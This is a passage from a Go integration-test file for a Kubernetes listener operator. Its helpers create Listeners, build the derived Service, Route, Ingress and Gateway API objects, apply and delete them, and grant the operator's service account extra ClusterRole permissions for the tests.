		g.Expect(err).NotTo(HaveOccurred())
		for i := range classes {
			g.Expect(client.IgnoreAlreadyExists(operator.Create(t.Context(), &classes[i], client.DryRunAll))).To(Succeed())
		}
	}
}

// exposeDerived exposes a Listener whose Service has a derived name, by each kind of object that names the Service.
func exposeDerived(t *testing.T, admin client.Client, services *apply.Applier, namespace, name string) {
	t.Helper()
	listener := &listenersv1alpha1.Listener{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name},
		Spec:       listenersv1alpha1.ListenerSpec{Ports: []listenersv1alpha1.ListenerPort{{Name: "http", Port: 80}}},
	}
	if err := admin.Create(t.Context(), listener); err != nil {
		t.Fatal(err)
	}
	class := &listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{
		ServiceType: listenersv1alpha1.ServiceTypeNodePort, AllowedClients: []listenersv1alpha1.CIDR{"198.51.100.0/24"},
		ServiceExternalTrafficPolicy: ptr.To(corev1.ServiceExternalTrafficPolicyLocal),
	}}
	service, refusal := (&exposure.Backend{}).Service(class, listener)
	if refusal != nil {
		t.Fatal(refusal)
	}
	desired, err := apply.Unstructured(service)
	if err != nil {
		t.Fatal(err)
	}
	policy := backends.All().Of(class).ClientPolicy(&exposure.Listener{Listener: listener, Class: class}, service, exposure.ReadPolicies(listener, nil, nil))
	route := object(t, `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: `+namespace+`, name: x-http},
  spec: {host: shop.example, to: {kind: Service, name: `+names.Service(name)+`}, port: {targetPort: http}}}`)
	ingress := object(t, `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: `+namespace+`, name: x-http}, spec: {ingressClassName: a, rules: [
  {host: shop.example, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: `+names.Service(name)+`, port: {name: http}}}}]}}]}}`)
	exposure.SetOwner(route, listener)
	exposure.SetOwner(ingress, listener)
	for _, o := range append([]*unstructured.Unstructured{desired, policy, route, ingress}, gatewayRoutes(t, listener)...) {
		if _, err := services.Apply(t.Context(), o, nil); err != nil {
			t.Errorf("%s %s: %v", o.GetKind(), o.GetName(), err)
		}
		if err := admin.Delete(t.Context(), o); err != nil {
			t.Errorf("%s %s: %v", o.GetKind(), o.GetName(), err)
		}
	}
}

// gatewayRoutes returns what the backends for the Gateway API generate for the Listener, in the versions that the API
// server serves.
func gatewayRoutes(t *testing.T, listener *listenersv1alpha1.Listener) []*unstructured.Unstructured {
	t.Helper()
	edge := &gatewayv1.Gateway{ObjectMeta: metav1.ObjectMeta{Namespace: "infra", Name: "edge"}}
	for _, protocol := range []gatewayv1.ProtocolType{gatewayv1.TCPProtocolType, gatewayv1.UDPProtocolType} {
		edge.Spec.Listeners = append(edge.Spec.Listeners, gatewayv1.Listener{
			Name: gatewayv1.SectionName(strings.ToLower(string(protocol))), Port: 9001, Protocol: protocol,
			AllowedRoutes: &gatewayv1.AllowedRoutes{Namespaces: &gatewayv1.RouteNamespaces{From: ptr.To(gatewayv1.NamespacesFromAll)}},
		})
	}
	edge.Spec.AllowedListeners = &gatewayv1.AllowedListeners{Namespaces: &gatewayv1.ListenerNamespaces{From: ptr.To(gatewayv1.NamespacesFromAll)}}
	var routes []*unstructured.Unstructured
	for _, exposed := range []*listenersv1alpha1.GatewayExposure{
		{Kind: listenersv1alpha1.GatewayRouteKindTLS}, {Kind: listenersv1alpha1.GatewayRouteKindHTTP}, {Kind: listenersv1alpha1.GatewayRouteKindTCP},
		{Kind: listenersv1alpha1.GatewayRouteKindUDP}, {Kind: listenersv1alpha1.GatewayRouteKindTCP, PortRange: "20000-20000"},
		{Kind: listenersv1alpha1.GatewayRouteKindUDP, PortRange: "20000-20000"},
	} {
		exposed.HostTemplate, exposed.ParentRefs = "{listener}.{namespace}.example", []listenersv1alpha1.GatewayParent{{Namespace: "infra", Name: "edge"}}
		desired, refusal := gateway.Backend(exposed.Kind).Objects(&exposure.Listener{
			Listener: listener, Referenced: []exposure.Object{edge},
			Class:   &listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{ServiceType: listenersv1alpha1.ServiceTypeClusterIP, Gateway: exposed}},
			Service: &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: listener.Namespace, Name: names.Service(listener.Name)}, Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Name: "tcp", Port: 80}, {Name: "udp", Protocol: corev1.ProtocolUDP, Port: 80}}}},
		}, exposure.Others{})
		if refusal != nil {
			t.Fatal(refusal)
		}
		for _, d := range desired {
			if d.GetKind() != "HTTPRoute" && d.GetKind() != "ListenerSet" {
				d.SetAPIVersion("gateway.networking.k8s.io/v1alpha2")
			}
			routes = append(routes, d.Unstructured)
		}
	}
	return routes
}

// grant gives the operator in a namespace one more permission.
func grant(t *testing.T, admin client.Client, namespace string, rule rbacv1.PolicyRule) {
	t.Helper()
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{GenerateName: "granted-"}, Rules: []rbacv1.PolicyRule{rule}}
	if err := admin.Create(t.Context(), role); err != nil {
		t.Fatal(err)
	}
	binding := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: role.Name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: namespace, Name: names.Operator}},
	}
	if err := admin.Create(t.Context(), binding); err != nil {
		t.Fatal(err)
	}
}
